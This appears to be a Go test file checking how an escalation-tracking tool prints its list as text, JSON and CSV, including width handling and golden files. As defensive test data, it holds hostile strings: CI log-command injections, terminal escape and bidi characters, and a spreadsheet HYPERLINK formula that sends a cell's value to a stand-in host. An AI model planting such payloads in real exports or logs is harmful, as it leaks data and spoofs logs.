package viewprint_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/escalations-as-code/escalate/internal/escape"
	"github.com/escalations-as-code/escalate/internal/stale"
	"github.com/escalations-as-code/escalate/internal/terminal"
	"github.com/escalations-as-code/escalate/internal/view"
	"github.com/escalations-as-code/escalate/internal/view/viewprint"
	"github.com/escalations-as-code/escalate/schema"
)

var update = flag.Bool("update", false, "write the golden files")

var (
	now = time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
	jo  = stale.Person{Handle: "jdoe", Name: "Jo Doe", As: "DRI"}
	min = stale.Person{Handle: "mlee", Name: "Min Lee", As: "Product DRI"}
)

func day(d, hour int) time.Time { return time.Date(2026, 11, d, hour, 0, 0, 0, time.UTC) }

// table has an escalation of each kind, with names that are long or wide.
func table() view.Table {
	row := func(id schema.ID, customer schema.Text, s schema.Severity, days int, next *stale.Item) view.Row {
		opened := now.AddDate(0, 0, -days)
		return view.Row{Escalation: id, Customer: customer, Severity: s, Region: "EMEA", Status: view.Open, Opened: opened, Age: now.Sub(opened), DRI: jo, Criteria: 3, Met: 1, Next: next}
	}
	late := func(rung int) *stale.Item {
		return &stale.Item{Clock: stale.Customer, State: stale.Overdue, Due: day(26, 0), Since: day(26, 0), Rung: rung, Turn: jo}
	}
	long := row("2026/a-customer-with-a-name-that-is-longer-than-its-column", "A customer with a name that is longer than its column", schema.Critical, 3, late(2))
	long.ProductDRI, long.ProductRelated, long.Restricted = min, true, true
	covered := row("2026/tsukimori", "月森精機 | Tsukimori", schema.Medium, 40, &stale.Item{Clock: stale.Step, State: stale.Due, Due: day(28, 0), Turn: jo})
	covered.StandIn = stale.Person{Handle: "hshimizu", Name: "清水 春香", As: "stand-in"}
	covered.ProductDRI = stale.Person{Handle: "pending", Name: "to be assigned", As: "Product DRI"}
	owes := row("2025/woodgrove", "Woodgrove", schema.High, 60, late(1))
	owes.Status, owes.Ended, owes.Age, owes.Met = "resolved", day(7, 0), 40*24*time.Hour, 3
	ended := row("2025/quiet", "Quiet", schema.Low, 400, nil)
	ended.Status, ended.Ended, ended.Met = "withdrawn", day(1, 0), 0
	return view.Table{Now: now, Rows: []view.Row{long, row("2026/northwind", "Northwind Traders", schema.High, 7, late(1)), covered, row("2026/still", "Still", schema.Low, 0, nil), owes, ended},
		Unread: []stale.Unread{{Escalation: "2026/fabrikam", Why: view.HeldBack}}}
}

func printed(t *testing.T, print func(io.Writer) error) string {
	t.Helper()
	var b bytes.Buffer
	if err := print(&b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s differs; go test -update writes it. Got:\n%s", file, got)
	}
}

// fits holds a print to the width: a line that is wider is a single word.
func fits(t *testing.T, width int, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		if terminal.Columns(line) > width && len(strings.Fields(line)) > 2 {
			t.Errorf("%d columns of %d: %q", terminal.Columns(line), width, line)
		}
	}
}

// inert holds a print of hostile text to doing nothing at a terminal and in a log.
func inert(t *testing.T, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "::") || strings.Contains(line, "##[") || strings.ContainsFunc(line, escape.Hidden) {
			t.Errorf("a line is %q", line)
		}
	}
}

const evil = "::error::x\n::set-output name=a::b ##[group]x \x1b[31m \u202e"

func TestList(t *testing.T) {
	t.Parallel()
	list := func(of view.Table, width int) string {
		return printed(t, func(w io.Writer) error { return viewprint.List(w, of, terminal.Screen{Width: width}) })
	}
	for _, width := range []int{60, 80, 200} {
		golden(t, fmt.Sprintf("list-%d", width), list(table(), width))
	}
	for width := terminal.Narrowest; width <= terminal.Widest; width++ {
		fits(t, width, list(table(), width))
	}
	hostile := table()
	for i := range hostile.Rows {
		hostile.Rows[i].Customer, hostile.Rows[i].DRI.Name, hostile.Rows[i].ProductDRI.Name, hostile.Rows[i].StandIn = evil, evil, evil, stale.Person{Handle: "x", Name: evil}
	}
	hostile.Unread[0].Why = evil
	for _, width := range []int{40, 80, 200} {
		inert(t, list(hostile, width))
	}
	if got, want := list(view.Table{Now: now}, 80), "Fri 27 Nov 09:00 UTC: 0 open, 0 of them late, 0 closed.\n"; got != want {
		t.Errorf("of nothing: %q, want %q", got, want)
	}
}

func TestListJSON(t *testing.T) {
	t.Parallel()
	var out struct {
		Now         string
		Escalations []map[string]any
		Unread      []struct{ Escalation, Why string }
	}
	if err := json.Unmarshal([]byte(printed(t, func(w io.Writer) error { return viewprint.ListJSON(w, table()) })), &out); err != nil {
		t.Fatal(err)
	}
	if out.Now != "2026-11-27T09:00:00Z" || len(out.Escalations) != 6 || len(out.Unread) != 1 {
		t.Fatalf("got %+v", out)
	}
	got := fmt.Sprint(out.Escalations[1])
	want := "map[clock:customer closed: criteria:3 criteria_met:1 customer:Northwind Traders days:7 dri:jdoe due:2026-11-26T00:00:00Z escalation:2026/northwind opened:2026-11-20T09:00:00Z product_dri: product_related:false region:EMEA restricted:false severity:high since:2026-11-26T00:00:00Z stand_in: status:open]"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	empty := printed(t, func(w io.Writer) error { return viewprint.ListJSON(w, view.Table{Now: now}) })
	if !strings.Contains(empty, `"escalations": []`) || !strings.Contains(empty, `"unread": []`) {
		t.Errorf("of nothing: %s", empty)
	}
}

// A spreadsheet computes nothing, and no cell begins another.
func TestListCSV(t *testing.T) {
	t.Parallel()
	of := table()
	of.Rows[0].Customer, of.Rows[0].DRI.Name = "=HYPERLINK(\"https://x.example/?\"&A1,\"x\")", "@SUM(1)\n=2"
	text := printed(t, func(w io.Writer) error { return viewprint.ListCSV(w, of) })
	golden(t, "list.csv", text)
	rest, marked := strings.CutPrefix(text, "\xEF\xBB\xBF")
	if !marked || strings.Contains(rest, "\uFEFF") {
		t.Error("it does not begin with the one byte order mark by which Excel knows UTF-8")
	}
	all, err := csv.NewReader(strings.NewReader(rest)).ReadAll()
	if err != nil || len(all) != 1+6+1 {
		t.Fatalf("%d lines: %v", len(all), err)
	}
	for _, line := range all {
		for _, cell := range line {
			if strings.ContainsAny(cell[:len(cell)-len(strings.TrimLeft(cell, "=+-@"))], "=+-@") || strings.Contains(cell, "\n") {
				t.Errorf("a cell is %q", cell)
			}
		}
	}
	if all[1][1][0] != '\'' || all[2][1] != "Northwind Traders" || all[7][18] != view.HeldBack {
		t.Errorf("got %q", all)
	}
}
